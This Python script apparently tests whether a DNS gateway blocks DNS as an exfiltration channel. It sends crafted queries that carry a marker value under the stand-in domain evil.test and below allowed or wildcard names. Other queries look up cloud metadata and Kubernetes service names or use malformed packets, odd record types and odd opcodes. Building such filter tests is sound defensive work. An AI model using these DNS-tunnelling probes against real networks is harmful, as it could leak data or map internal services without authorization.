"""DNS as a way out, over UDP and TCP: only the addresses of allowed names are answered, and those are the gateway's."""

import sys

from attack import *

MARK = sys.argv[1]
SEEN = "seen.example.test"
for tcp in (False, True):
    road = "tcp" if tcp else "udp"
    attempt(f"control, {road}", ask, query(SEEN), tcp)
    attempt(f"upper case, {road}", ask, query("SEEN.Example.TEST"), tcp)
    attempt(f"wildcard, {road}", ask, query("one.wild.example.test"), tcp)
    for kind in ("AAAA", "HTTPS", "TXT", "NULL", "MX", "SRV", "NS", "SOA", "CNAME", "ANY", "AXFR"):
        attempt(f"{kind} of an allowed name, {road}", ask, query(SEEN, kind), tcp)
        attempt(f"{kind} of another name, {road}", ask, query(f"{MARK}-{kind}.evil.test", kind), tcp)
    attempt(f"another name, {road}", ask, query(f"{MARK}.evil.test"), tcp)
    attempt(f"cluster name, {road}", ask, query("kubernetes.default.svc.cluster.local"), tcp)
    attempt(f"metadata name, {road}", ask, query("metadata.google.internal"), tcp)
    attempt(f"data below an allowed name, {road}", ask, query(f"{MARK}.{SEEN}"), tcp)
    attempt(f"data below a wildcard, {road}", ask, query(f"{MARK}.{'a' * 60}.{'b' * 60}.wild.example.test"), tcp)
    attempt(f"long label, {road}", ask, query("a" * 63 + ".evil.test"), tcp)
    attempt(f"long name, {road}", ask, query(".".join(["a" * 50] * 5) + ".example.test"), tcp)
    attempt(f"chaos class, {road}", ask, query("version.bind", "TXT", cls=3), tcp)
    attempt(f"another class, {road}", ask, query(SEEN, cls=4), tcp)
    attempt(f"two questions, {road}", ask, query(SEEN, count=2) + query("evil.test")[12:], tcp)
    attempt(f"no question, {road}", ask, query(SEEN, count=0)[:12], tcp)
    attempt(f"an answer, {road}", ask, query(SEEN, flags=0x8180), tcp)
    attempt(f"an update, {road}", ask, query(SEEN, flags=0x2800), tcp)
    attempt(f"a notify, {road}", ask, query(SEEN, flags=0x2000), tcp)
    loop = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack("!2H", 1, 1)
    attempt(f"a name that loops, {road}", ask, loop, tcp)
    attempt(f"half a question, {road}", ask, query(SEEN)[:-3], tcp)
    attempt(f"garbage, {road}", ask, b"\xff" * 64, tcp)
    attempt(f"two bytes, {road}", ask, b"\x12\x34", tcp)


def two_messages():
    with dial(53, 3) as connection:
        found = []
        for name in (SEEN, "evil.test"):
            message = query(name)
            connection.sendall(struct.pack("!H", len(message)) + message)
            found.append(read_dns(read_framed(connection)).replace(GATEWAY, "gateway"))
        return ", ".join(found)


attempt("two messages on one connection", two_messages)


def length_without_message():
    connection = dial(53)
    connection.sendall(b"\xff\xff" + b"a")
    return wait_closed(connection, 40)


attempt("a length without its message", length_without_message)
for size in (0, 1, 65535):
    def framed():
        with dial(53, 3) as connection:
            connection.sendall(struct.pack("!H", size) + b"a" * size)
            return read_dns(read_framed(connection))

    attempt(f"frame of {size} bytes", framed)
attempt("control afterwards", ask, query(SEEN))
finish()
